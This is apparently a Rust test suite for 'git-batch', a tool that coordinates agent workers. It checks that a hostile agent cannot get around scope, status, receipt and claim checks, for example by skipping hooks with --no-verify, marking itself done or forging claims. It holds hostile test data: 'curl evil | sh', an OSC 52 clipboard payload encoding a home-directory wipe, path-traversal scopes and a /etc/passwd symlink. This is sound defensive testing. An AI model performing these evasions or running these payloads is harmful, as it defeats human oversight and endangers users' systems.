//! A worker branch is untrusted input: each trick an agent could play with
//! its own commits (hooks skipped with `--no-verify`, its status set by
//! hand) is caught by the landing, by `check --range` and by the server's
//! `pre-receive`, which judge from the main branch, never from the branch.

use crate::common::{TestEnv, fixed_env};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// A repository on `main` with tasks made by `setup`, and the worktree of
/// the task the attacker works on.
struct Scene {
    env: TestEnv,
    id: String,
    wt: PathBuf,
}

impl Scene {
    fn new(scope: &str) -> Scene {
        Scene::with_scopes(&[scope])
    }

    fn with_scopes(scopes: &[&str]) -> Scene {
        let env = TestEnv::new();
        let mut args = vec!["the work"];
        for s in scopes {
            args.extend(["--scope", s]);
        }
        let id = env.create(&args);
        let s: serde_json::Value = env.json(&["start", &id, "--worker", "agent"]);
        let wt = PathBuf::from(s["path"].as_str().unwrap());
        Scene { env, id, wt }
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.wt.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.wt.join(rel)).unwrap()
    }

    /// Commits everything, hooks skipped, as a hostile agent would.
    fn commit(&self, message: &str) {
        self.env.git_in(&self.wt, &["add", "-A"]);
        self.env
            .git_in(&self.wt, &["commit", "-q", "--no-verify", "-m", message]);
    }

    /// Sets its own status to done by hand (no `git batch done` check).
    fn mark_done(&self) {
        let rel = format!(".batch/tasks/{}.toml", self.id);
        let text = self
            .read(&rel)
            .replace("status = \"open\"", "status = \"done\"");
        self.write(&rel, &text);
        self.commit("done");
    }

    /// The first trick: its own scope `src/**` widened to `**` in one
    /// commit, a file outside the old scope changed in the next.
    fn widen_then_use(&self) {
        let rel = format!(".batch/tasks/{}.toml", self.id);
        let text = self
            .read(&rel)
            .replace("scope = [\"src/**\"]", "scope = [\"**\"]");
        self.write(&rel, &text);
        self.commit("widen");
        self.write("README.md", "owned\n");
        self.commit("use it");
    }

    /// The landing's verdict on the attacker's task: why it was left out.
    fn land_verdict(&self) -> Option<String> {
        // Exit 1 when it left out everything it tried, as here.
        let out = self.env.run(&["--json", "land", "--no-push"]);
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let landed = report["landed"].as_array().unwrap();
        if landed.iter().any(|l| l == self.id.as_str()) {
            return None;
        }
        let out = report["left_out"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["id"] == self.id.as_str())
            .unwrap_or_else(|| panic!("neither landed nor left out: {report}"));
        assert_eq!(out["reason"], "scope", "{report}");
        Some(out["detail"].as_str().unwrap().to_string())
    }

    /// `check --range` of the branch from the main checkout.
    fn check_range(&self) -> serde_json::Value {
        let branch = format!("batch/{}", self.id);
        let out = self
            .env
            .batch_cmd(&[
                "--json",
                "check",
                "--range",
                &format!("main..{branch}"),
                "--task",
                &self.id,
            ])
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap()
    }
}

/// A bare `origin` of `env`'s repository with git-batch's server hooks.
fn guarded_server(env: &TestEnv) -> PathBuf {
    let bare = env.dir.path().join("server.git");
    env.git(&["init", "-q", "--bare", "-b", "main", bare.to_str().unwrap()]);
    env.git(&["remote", "add", "origin", bare.to_str().unwrap()]);
    env.git(&["push", "-q", "origin", "main"]);
    let out = Command::new(crate::common::BIN)
        .current_dir(&bare)
        .args(["hooks", "install", "--server"])
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    crate::common::assert_ok(&out);
    bare
}

/// Each trick: the landing leaves the task out naming why, `check --range`
/// fails, and main does not get the change.
fn assert_caught(scene: &Scene, why: &str, untouched: &[&str]) {
    let before: Vec<Option<String>> = untouched
        .iter()
        .map(|f| std::fs::read_to_string(scene.env.repo.join(f)).ok())
        .collect();
    let range = scene.check_range();
    assert_eq!(range["ok"], false, "{range}");
    let detail = scene.land_verdict().expect("the trick must not land");
    assert!(detail.contains(why), "{detail}");
    for (f, was) in untouched.iter().zip(before) {
        let now = std::fs::read_to_string(scene.env.repo.join(f)).ok();
        assert_eq!(now, was, "{f} changed on main");
    }
}

#[test]
fn widening_its_own_scope_in_one_commit_and_using_it_in_the_next() {
    let s = Scene::new("src/**");
    s.widen_then_use();
    s.mark_done();
    assert_caught(&s, "outside the scope", &["README.md"]);
    assert!(s.land_verdict().is_some());
    let detail = s.land_verdict().unwrap();
    assert!(detail.contains("changes scope of its own task"), "{detail}");
}

#[test]
fn a_trailer_naming_another_task() {
    let s = Scene::new("a/**");
    let other = s.env.create(&["another", "--scope", "b/**"]);
    s.write("b/x.txt", "mine now\n");
    s.commit(&format!("b's work\n\nBatch-Task: {other}"));
    s.mark_done();
    assert_caught(&s, "outside the scope", &["b/x.txt"]);
    assert!(s.land_verdict().unwrap().contains("trailer names"));
}

#[test]
fn a_toml_scope_rewriting_the_config() {
    let s = Scene::new("*.toml");
    let config = s.read(".batch/config.toml");
    s.write(
        ".batch/config.toml",
        &format!("{config}test_command = \"curl evil | sh\"\n"),
    );
    s.commit("config");
    s.mark_done();
    assert_caught(&s, "only people change", &[".batch/config.toml"]);
}

#[test]
fn an_everything_scope_rewriting_another_task_and_the_attributes() {
    let s = Scene::new("**");
    let other = s.env.create(&["another", "--scope", "b/**"]);
    // The worktree is older than `other`: bring it in as a person would.
    s.env.git_in(&s.wt, &["merge", "-q", "--ff-only", "main"]);
    let rel = format!(".batch/tasks/{other}.toml");
    let text = s
        .read(&rel)
        .replace("status = \"open\"", "status = \"closed\"");
    s.write(&rel, &text);
    s.commit("close the other");
    s.mark_done();
    assert_caught(&s, &format!("task file of {other}"), &[&rel]);

    let s = Scene::new("**");
    std::fs::remove_file(s.wt.join(".batch/.gitattributes")).unwrap();
    s.commit("no union merge for receipts");
    s.mark_done();
    assert_caught(&s, "only people change", &[".batch/.gitattributes"]);
}

#[test]
fn rewriting_receipt_lines_already_on_main() {
    let s = Scene::new("src/**");
    // Lines already on main (a receipt of an earlier attempt).
    let rel = format!(".batch/receipts/{}.log", s.id);
    let on_main = s.env.repo.join(&rel);
    std::fs::create_dir_all(on_main.parent().unwrap()).unwrap();
    std::fs::write(&on_main, "2026-01-01T00:00:00Z agent found 3 bugs\n").unwrap();
    s.env.git(&["add", &rel]);
    s.env.git(&["commit", "-q", "-m", "receipt"]);
    s.env.git_in(&s.wt, &["merge", "-q", "--ff-only", "main"]);
    s.write(&rel, "2026-01-01T00:00:00Z agent found 0 bugs\n");
    s.commit("rewrite history");
    s.mark_done();
    assert_caught(&s, "rewrites lines of its receipt", &[&rel]);
}

#[test]
fn a_branch_that_brings_its_own_task() {
    let env = TestEnv::new();
    // A worker branch for a task main has never heard of, whose file (on
    // the branch only) gives it every file.
    env.git(&["checkout", "-q", "-b", "batch/bt-fake"]);
    let rel = ".batch/tasks/bt-fake.toml";
    env.write(
        rel,
        "id = \"bt-fake\"\ntitle = \"mine\"\nstatus = \"done\"\npriority = 2\nkind = \"task\"\nscope = [\"**\"]\ncreated = \"2026-01-01T00:00:00Z\"\nupdated = \"2026-01-01T00:00:00Z\"\n",
    );
    env.write("README.md", "owned\n");
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "--no-verify", "-m", "mine"]);
    env.git(&["checkout", "-q", "main"]);
    // Exit 1: it left out the one task it tried.
    let out = env.run(&["--json", "land", "--no-push"]);
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["landed"], serde_json::json!([]), "{report}");
    assert_eq!(report["left_out"][0]["id"], "bt-fake", "{report}");
    assert!(
        report["left_out"][0]["detail"]
            .as_str()
            .unwrap()
            .contains("no such task")
    );
    assert_eq!(env.read("README.md"), "hello\n");
}

#[test]
fn what_a_worker_may_do_still_lands() {
    let s = Scene::new("src/**");
    s.write("src/lib.rs", "pub fn f() {}\n");
    s.env.ok_in(&s.wt, &["receipt", "wrote src/lib.rs"]);
    s.env
        .ok_in(&s.wt, &["note", &s.id, "a finding for the reviewer"]);
    s.env
        .ok_in(&s.wt, &["update", &s.id, "--add-label", "needs-review"]);
    s.env.ok_in(&s.wt, &["done"]);
    assert_eq!(s.check_range()["ok"], true, "{}", s.check_range());
    assert_eq!(s.land_verdict(), None);
    assert_eq!(s.env.read("src/lib.rs"), "pub fn f() {}\n");
}

#[test]
fn a_new_task_of_its_own_children_lands_and_any_other_new_task_does_not() {
    let s = Scene::new("src/**");
    let child = s
        .env
        .ok_in(
            &s.wt,
            &[
                "create",
                "follow-up found on the way",
                "--parent",
                &s.id,
                "--scope",
                "src/x/**",
            ],
        )
        .trim()
        .to_string();
    s.mark_done();
    assert_eq!(s.land_verdict(), None);
    let on_main: serde_json::Value = s.env.json(&["show", &child]);
    assert_eq!(on_main["parent"], s.id.as_str());

    let s = Scene::new("src/**");
    let stranger = s
        .env
        .ok_in(&s.wt, &["create", "not mine to make", "--scope", "**"])
        .trim()
        .to_string();
    s.mark_done();
    let detail = s.land_verdict().expect("a stranger task must not land");
    assert!(
        detail.contains(&format!("adds task {stranger}")),
        "{detail}"
    );
}

#[test]
fn pre_receive_refuses_the_tricks_on_a_real_server() {
    let s = Scene::new("src/**");
    guarded_server(&s.env);
    let push = |dir: &Path| {
        let mut cmd = Command::new("git");
        fixed_env(&mut cmd, &s.env.home());
        cmd.current_dir(dir)
            .env("GIT_BATCH_LANDING", "1")
            .args(["push", "origin", &format!("HEAD:refs/batch/work/{}", s.id)])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    s.widen_then_use();
    let out = push(&s.wt);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("README.md") && err.contains("changes scope"),
        "{err}"
    );
}

#[test]
fn scopes_are_checked_where_they_enter() {
    let env = TestEnv::new();
    let tasks = || {
        std::fs::read_dir(env.repo.join(".batch/tasks"))
            .unwrap()
            .count()
    };
    let before = tasks();
    for bad in [
        "../**",
        ".git/**",
        "src/../../etc",
        "//etc/passwd",
        "[unclosed",
        "!only/exclusions",
    ] {
        let err = env.fails(&["create", "t", "--scope", bad], 2);
        assert!(err.contains("invalid scope"), "{bad}: {err}");
        assert!(err.contains("Hint:"), "{bad}: {err}");
    }
    assert_eq!(tasks(), before, "nothing was created");
    let id = env.create(&["t", "--scope", "src/**"]);
    env.fails(&["update", &id, "--add-scope", "../x"], 2);
    let split = env
        .batch_cmd(&[
            "split",
            "--title",
            "chunk {n}",
            "--size",
            "1",
            "--scope",
            ".git/hooks/**",
        ])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    let out = {
        let mut child = split;
        use std::io::Write;
        child.stdin.take().unwrap().write_all(b"a\nb\n").unwrap();
        child.wait_with_output().unwrap()
    };
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(tasks(), before + 1, "split made no task");
}

#[test]
fn a_broken_scope_in_one_task_file_holds_up_no_other_worker() {
    let env = TestEnv::new();
    let broken = env.create(&["broken", "--scope", "a/**", "-p", "0"]);
    let fine = env.create(&["fine", "--scope", "b/**", "-p", "1"]);
    // Edited by hand (or pulled) after it entered.
    let path = env.task_file(&broken);
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replace("\"a/**\"", "\"[unclosed\"")).unwrap();
    let out = env.run(&["--json", "claim", "--next", "--worker", "w1"]);
    crate::common::assert_ok(&out);
    let claimed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(claimed["task"], fine.as_str());
    assert_eq!(claimed["skipped"][0]["id"], broken.as_str());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("{broken} skipped")), "{err}");
}

#[test]
fn a_claimed_task_cannot_widen_its_scope() {
    let env = TestEnv::new();
    let id = env.create(&["t", "--scope", "src/**"]);
    env.ok(&["claim", &id, "--worker", "w1"]);
    let err = env.fails(&["update", &id, "--add-scope", "**"], 3);
    assert!(err.contains("claimed by w1"), "{err}");
    env.ok(&["release", &id, "--worker", "w1"]);
    env.ok(&["update", &id, "--add-scope", "docs/**"]);
}

#[test]
fn terminal_control_sequences_in_task_data_are_shown_not_run() {
    let env = TestEnv::new();
    // Sets the window title, then writes the clipboard (OSC 0 and OSC 52).
    let evil = "fix\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7} it";
    let id = env.create(&[evil, "--scope", "src/**", "-d", "body \u{1b}[2J clear"]);
    env.ok(&["note", &id, "note \u{1b}]0;x\u{7}"]);
    env.ok(&["plan", "p", &id, "--force"]);
    let wt = {
        let s: serde_json::Value = env.json(&["start", &id, "--worker", "w\u{1b}[31m"]);
        PathBuf::from(s["path"].as_str().unwrap())
    };
    env.ok_in(&wt, &["receipt", "line \u{1b}]0;y\u{7}"]);
    env.ok_in(
        &wt,
        &[
            "fail",
            "--reason",
            "why \u{1b}]0;z\u{7}",
            "--worker",
            "w\u{1b}[31m",
        ],
    );
    for args in [
        vec!["show", id.as_str()],
        vec!["list", "--all"],
        vec!["status", "--plan", "p"],
        vec!["review", "--plan", "p"],
        vec!["receipts", id.as_str()],
    ] {
        for colour in ["never", "always"] {
            let mut all = vec!["--color", colour];
            all.extend(args.iter().copied());
            let out = env.run(&all);
            crate::common::assert_ok(&out);
            let text = [out.stdout, out.stderr].concat();
            let text = String::from_utf8_lossy(&text);
            // No OSC, no other sequence than colours.
            assert!(
                !text.contains("\u{1b}]"),
                "{args:?} --color {colour}: {text:?}"
            );
            assert!(
                !text.contains("\u{7}"),
                "{args:?} --color {colour}: {text:?}"
            );
            if colour == "never" {
                assert!(!text.contains('\u{1b}'), "{args:?}: {text:?}");
            } else {
                assert!(!text.contains("\u{1b}[2J"), "{args:?}: {text:?}");
            }
        }
    }
    let shown = env.ok(&["show", &id]);
    assert!(
        shown.contains("fix^[]0;owned^G^[]52;c;cm0gLXJmIH4=^G it"),
        "{shown}"
    );
    // --json keeps the exact text.
    let task: serde_json::Value = env.json(&["show", &id]);
    assert_eq!(task["title"], evil);
}

#[test]
fn a_workers_output_reaches_the_run_lines_escaped() {
    let env = TestEnv::new();
    env.create(&["t", "--scope", "src/**"]);
    let out = env.run(&[
        "run",
        "--ready",
        "--retries",
        "0",
        "--exec",
        "printf 'oops \\033]0;owned\\007\\n'; exit 1",
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("oops ^[]0;owned^G"), "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
}

#[test]
fn files_that_are_links_or_huge_are_refused_not_read() {
    let env = TestEnv::new();
    let fine = env.create(&["fine"]);
    let big = env.create(&["big"]);
    let linked = env.create(&["linked"]);
    // A 2 MiB task file, and one that is a link to a file outside.
    let path = env.task_file(&big);
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, format!("{text}\n# {}\n", "x".repeat(9 << 20))).unwrap();
    let outside = env.dir.path().join("outside.toml");
    std::fs::copy(env.task_file(&linked), &outside).unwrap();
    std::fs::remove_file(env.task_file(&linked)).unwrap();
    std::os::unix::fs::symlink(&outside, env.task_file(&linked)).unwrap();
    let err = env.fails(&["show", &big], 1);
    assert!(err.contains("more than the 8388608"), "{err}");
    let err = env.fails(&["show", &linked], 1);
    assert!(err.contains("symbolic link"), "{err}");
    // Listing goes on, with the two named as broken.
    let out = env.run(&["list", "--json"]);
    crate::common::assert_ok(&out);
    let listed: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0]["id"], fine.as_str());
    let warned = String::from_utf8_lossy(&out.stderr);
    assert!(
        warned.contains(&big) && warned.contains(&linked),
        "{warned}"
    );

    // Nor is a task written that no command could read back.
    let huge = env.dir.path().join("huge.txt");
    std::fs::write(&huge, "y".repeat(9 << 20)).unwrap();
    let before = std::fs::read_to_string(env.task_file(&fine)).unwrap();
    let err = env.fails(&["update", &fine, "--body-file", huge.to_str().unwrap()], 1);
    assert!(err.contains("more than the 8388608"), "{err}");
    assert_eq!(
        std::fs::read_to_string(env.task_file(&fine)).unwrap(),
        before
    );

    // A config that is a link to /dev/zero: refused at once, not read.
    let config = env.repo.join(".batch/config.toml");
    std::fs::remove_file(&config).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &config).unwrap();
    let err = env.fails(&["ready"], 1);
    assert!(
        err.contains("config.toml") && err.contains("symbolic link"),
        "{err}"
    );
}

#[test]
fn a_receipt_that_is_a_link_is_never_written_through() {
    let s = Scene::new("src/**");
    let target = s.env.dir.path().join("elsewhere.txt");
    std::fs::write(&target, "precious\n").unwrap();
    let rel = s.wt.join(format!(".batch/receipts/{}.log", s.id));
    std::fs::create_dir_all(rel.parent().unwrap()).unwrap();
    let _ = std::fs::remove_file(&rel);
    std::os::unix::fs::symlink(&target, &rel).unwrap();
    let out = s
        .env
        .batch_cmd_in(&s.wt, &["receipt", "a line"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious\n");
}

#[test]
fn a_link_out_of_the_repository_is_out_of_scope_unless_named() {
    let s = Scene::new("src/**");
    std::fs::create_dir_all(s.wt.join("src")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", s.wt.join("src/passwd")).unwrap();
    std::os::unix::fs::symlink("lib.rs", s.wt.join("src/alias.rs")).unwrap();
    s.commit("links");
    s.mark_done();
    let detail = s.land_verdict().expect("a link out must not land");
    assert!(
        detail.contains("symbolic link to \"/etc/passwd\""),
        "{detail}"
    );
    assert!(!detail.contains("alias.rs"), "{detail}");

    // Named exactly by the scope, it is the task's to add.
    let s = Scene::with_scopes(&["src/**", "src/passwd"]);
    std::fs::create_dir_all(s.wt.join("src")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", s.wt.join("src/passwd")).unwrap();
    s.commit("a named link");
    s.mark_done();
    assert_eq!(s.land_verdict(), None);
}

#[test]
fn a_temp_file_a_killed_write_left_never_blocks_done() {
    let s = Scene::new("src/**");
    s.write("src/a.rs", "a\n");
    // What a write killed between its temp file and its rename leaves.
    s.write(".batch/tasks/.batch-tmp-AbC123", "id = \"half");
    s.env.ok_in(&s.wt, &["done"]);
    let tree = s
        .env
        .git_in(&s.wt, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert!(!tree.contains(".batch-tmp-"), "{tree}");
    assert!(tree.contains("src/a.rs"));
}

#[test]
fn a_worker_that_sets_its_own_status_done_still_gets_the_scope_check() {
    let env = TestEnv::new();
    let id = env.create(&["t", "--scope", "src/**"]);
    // The worker writes out of scope, sets `done` by hand and commits with
    // the hooks skipped, then exits 0.
    let worker = format!(
        "echo owned > README.md && sed -i 's/status = \"open\"/status = \"done\"/' .batch/tasks/{id}.toml && git add -A && git commit -q --no-verify -m done"
    );
    let out = env.run(&[
        "--json",
        "run",
        "--ready",
        "--retries",
        "0",
        "--exec",
        &worker,
    ]);
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["done"], 0, "{summary}");
    assert_eq!(summary["failed"], 1, "{summary}");
    let status: serde_json::Value = env.json(&["status"]);
    let reason = status["runs"][0]["tasks"][0]["reason"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(reason.contains("outside its scope"), "{status}");
}

#[test]
fn a_worker_name_alone_does_not_renew_or_release_another_clones_claim() {
    let env = TestEnv::new();
    let id = env.create(&["t", "--scope", "src/**"]);
    let bare = env.dir.path().join("origin.git");
    env.git(&["init", "-q", "--bare", "-b", "main", bare.to_str().unwrap()]);
    env.git(&["remote", "add", "origin", bare.to_str().unwrap()]);
    env.git(&["push", "-q", "origin", "main"]);
    let other = env.clone_of(&bare, "other");
    let via = ["--remote", "origin", "--worker", "w"];
    env.ok(&[&["claim", id.as_str()][..], &via].concat());
    // The other clone says it is "w" too: that is no renewal...
    let out = env
        .batch_cmd_in(&other, &[&["claim", id.as_str()][..], &via].concat())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // ...and no release, unless it forces it (the trust model: a clone can).
    let out = env
        .batch_cmd_in(&other, &[&["release", id.as_str()][..], &via].concat())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&out.stderr).contains("of clone"));
    env.ok_in(
        &other,
        &[&["release", id.as_str(), "--force"][..], &via].concat(),
    );
    // The clone that claimed it renews and releases with the name alone.
    env.ok(&[&["claim", id.as_str()][..], &via].concat());
    env.ok(&[&["claim", id.as_str()][..], &via].concat());
    env.ok(&[&["release", id.as_str()][..], &via].concat());
}

#[test]
fn the_server_refuses_claims_pushes_git_batch_would_never_make() {
    let env = TestEnv::new();
    let id = env.create(&["t", "--scope", "src/**"]);
    let bare = guarded_server(&env);
    let other = env.clone_of(&bare, "other");
    let via = ["--remote", "origin", "--worker", "w"];
    env.ok(&[&["claim", id.as_str()][..], &via].concat());
    // Another clone forcing the live claim away: git-batch lets a clone
    // force, the server does not.
    let out = env
        .batch_cmd_in(
            &other,
            &[&["release", id.as_str(), "--force"][..], &via].concat(),
        )
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("lets go of the live claim"), "{err}");
    // A forged claims commit, and a rewrite of the claims history.
    let git = |dir: &Path, args: &[&str]| {
        let mut cmd = Command::new("git");
        fixed_env(&mut cmd, &env.home());
        cmd.current_dir(dir)
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    // git with `input` on its standard input; its standard output.
    let git_in = |args: &[&str], input: &str| {
        let mut cmd = Command::new("git");
        fixed_env(&mut cmd, &env.home());
        let mut child = cmd
            .current_dir(&other)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.as_bytes())
            .unwrap();
        String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap()
    };
    let blob = git_in(&["hash-object", "-w", "--stdin"], "not = a claim\n");
    let tree = git_in(
        &["mktree"],
        &format!("100644 blob {}\tbt-zzzz.toml\n", blob.trim()),
    );
    let tip = git(&other, &["ls-remote", "origin", "refs/batch/claims"]);
    let tip = String::from_utf8(tip.stdout).unwrap();
    let tip = tip.split_whitespace().next().unwrap().to_string();
    let _ = git(&other, &["fetch", "-q", "origin", "refs/batch/claims"]);
    let push_claims = |commit: &str| {
        let out = git(
            &other,
            &[
                "push",
                "--force",
                "origin",
                &format!("{commit}:refs/batch/claims"),
            ],
        );
        assert!(!out.status.success());
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let child = git(
        &other,
        &["commit-tree", tree.trim(), "-p", &tip, "-m", "forged"],
    );
    let child = String::from_utf8(child.stdout).unwrap();
    let err = push_claims(child.trim());
    assert!(
        err.contains("holds a claim on") || err.contains("damaged"),
        "{err}"
    );
    let unrelated = git(&other, &["commit-tree", tree.trim(), "-m", "rewrite"]);
    let unrelated = String::from_utf8(unrelated.stdout).unwrap();
    let err = push_claims(unrelated.trim());
    assert!(err.contains("rewrites the claims ref's history"), "{err}");
    // The clone that holds the claim releases it through the server.
    env.ok(&[&["release", id.as_str()][..], &via].concat());
}

/// `run --land` without `--test` (and no plan test) takes the test command
/// from the config on the landing's base, as `land` does: a checkout whose
/// config was changed (here by hand, not committed) does not choose it.
#[test]
fn a_runs_landing_tests_with_the_command_of_the_base() {
    let env = TestEnv::new();
    let base_marker = env.dir.path().join("ran-base");
    let local_marker = env.dir.path().join("ran-local");
    let command = format!("test_command = \"touch {}\"", base_marker.display());
    env.config_top(&command, "the team's test command");
    env.create(&["k", "--scope", "k/**"]);
    let committed = env.read(".batch/config.toml");
    env.write(
        ".batch/config.toml",
        &committed.replace(
            &base_marker.display().to_string(),
            &local_marker.display().to_string(),
        ),
    );
    let out = env.run(&[
        "--json",
        "run",
        "--ready",
        "--land",
        "--exec",
        "mkdir -p k && echo f > k/f",
    ]);
    crate::common::assert_ok(&out);
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["landed"].as_array().unwrap().len(), 1, "{summary}");
    assert!(base_marker.exists(), "the base's test command ran");
    assert!(!local_marker.exists(), "not the checkout's");
}
